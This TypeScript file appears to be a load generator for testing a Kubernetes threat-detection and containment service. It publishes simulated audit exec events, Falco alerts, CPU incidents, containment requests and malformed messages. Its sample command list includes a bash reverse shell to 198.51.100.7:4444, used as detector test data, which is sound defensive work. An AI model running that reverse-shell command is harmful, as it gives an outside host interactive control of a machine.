import { auditEntry } from '../../local/scenarios/audit-entry.ts';
import { falcoAlert, falcoPlace } from '../../local/scenarios/falco-alert.ts';
import { cpuIncident } from '../../local/scenarios/monitoring-incident.ts';
import type { Stack } from '../../local/stack.ts';
import { SHOP } from '../../local/world/seed.ts';
import { makeDetector } from '../../shared/detection/detector.ts';
import type { KubeObject } from '../../shared/kubernetes/object.ts';
import type { Topic } from '../../shared/model/ids.ts';
import { timeOf } from '../../shared/model/time.ts';
import { readPayload } from '../../shared/sources/registry.ts';
import { patiently } from '../kit/patient.ts';
import type { Chance } from '../simulation/chance.ts';

/**
 * What was published and accepted: messages by topic and id, the ids of requests, and the findings that must follow.
 */
export type Load = {
  sent: Array<{ topic: Topic; id: string; body: unknown }>;
  requests: Set<string>;
  findings: Set<string>;
  /** Messages that no function can parse. */
  unreadable: Array<{ topic: Topic; id: string; body: unknown }>;
  next(): Promise<void>;
};

const COMMANDS = ['sh', 'bash -c id', 'bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', 'ls /tmp'] as const;
const FALCO = ['Terminal shell in container', 'Detect crypto miners using the Stratum protocol'] as const;
const WHO = { reason: 'drill', requestedBy: 'ana@example.com' };

const detector = makeDetector();

/** The findings that stateless rules see in a payload. */
export const expected = (body: unknown, attributes: Record<string, string>, now: number): string[] => {
  const { signal } = readPayload(body, { now, place: { project: SHOP.project }, attributes });
  return signal === undefined ? [] : detector.see(signal, now).findings.map(({ id }) => id);
};

/** A load of signals, requests and malformed messages for the shop of a stack. Each `next` publishes one message. */
export const makeLoad = (stack: Stack, chance: Chance): Load => {
  let count = 0;
  const load: Load = { sent: [], requests: new Set(), findings: new Set(), unreadable: [], next: () => next() };
  const [cluster] = stack.world.clusters.values();

  const podIn = (...namespaces: string[]): KubeObject | undefined => {
    const pods = (cluster?.list('v1', 'Pod') ?? []).filter((p) => namespaces.includes(p.metadata.namespace ?? ''));
    return pods.length === 0 ? undefined : chance.pick(pods);
  };
  const publish = async (topic: Topic, body: unknown, attributes: Record<string, string> = {}): Promise<string> => {
    const id = await patiently(() => stack.publish(topic, body, attributes));
    load.sent.push({ topic, id, body });
    return id;
  };
  const signal = async (topic: Topic, body: unknown, attributes: Record<string, string> = {}): Promise<void> => {
    for (const id of expected(body, attributes, Date.now())) load.findings.add(id);
    await publish(topic, body, attributes);
  };
  const request = async (body: Record<string, unknown>): Promise<void> => {
    const id = `r-${count}`;
    load.requests.add(id);
    await publish('requests', { id, ...body, ...WHO });
  };

  const exec = async (): Promise<void> => {
    const { name, namespace } = podIn('shop', 'payments')?.metadata ?? {};
    if (name === undefined || namespace === undefined) return;
    const call = { verb: 'create', resource: 'pods', subresource: 'exec', namespace, name };
    await signal('audit-log', auditEntry({ ...SHOP, ...call, at: timeOf(Date.now()), command: chance.pick(COMMANDS) }));
  };
  const alert = async (): Promise<void> => {
    const pod = podIn('shop', 'payments')?.metadata;
    if (pod?.namespace === undefined) return;
    const time = timeOf(Date.now()).replace('Z', '000000Z');
    const about = { pod: pod.name, podUid: pod.uid, namespace: pod.namespace, cluster: SHOP };
    await signal(
      'threat',
      falcoAlert({ rule: chance.pick(FALCO), uuid: `u-${count}`, time, ...about }),
      falcoPlace(SHOP),
    );
  };
  const busy = async (): Promise<void> => {
    const { name = '', namespace = '' } = podIn('shop', 'payments')?.metadata ?? {};
    const on = { kind: 'pod', namespace, pod: name, container: 'main' } as const;
    await signal('cpu', cpuIncident({ id: `0.c${count}`, cluster: SHOP, on, startedAt: Date.now() - 60_000 }));
  };
  const contain = async (): Promise<void> => {
    const { name, namespace } = podIn('shop', 'payments')?.metadata ?? {};
    const tier = chance.pick(['snapshot', 'quarantine', 'quarantine', 'isolate'] as const);
    await request({ action: 'contain', tier, target: { ...SHOP, namespace, pod: name } });
  };
  const release = async (): Promise<void> => {
    const { items } = await patiently(() => stack.stores.incidents.list({}));
    const open = items.filter(({ goal }) => goal !== null && goal.tier !== 'released');
    if (open.length > 0) await request({ action: 'release', incident: chance.pick(open).id });
  };
  const rubbish = async (): Promise<void> => {
    const topic = chance.pick(['findings', 'containment', 'audit-log', 'notices'] as const);
    const body = { rubbish: count };
    load.unreadable.push({ topic, id: await publish(topic, body), body });
  };

  const KINDS = [exec, exec, exec, alert, alert, alert, busy, contain, release, rubbish] as const;
  const next = async (): Promise<void> => {
    count += 1;
    await chance.pick(KINDS)();
  };
  return load;
};
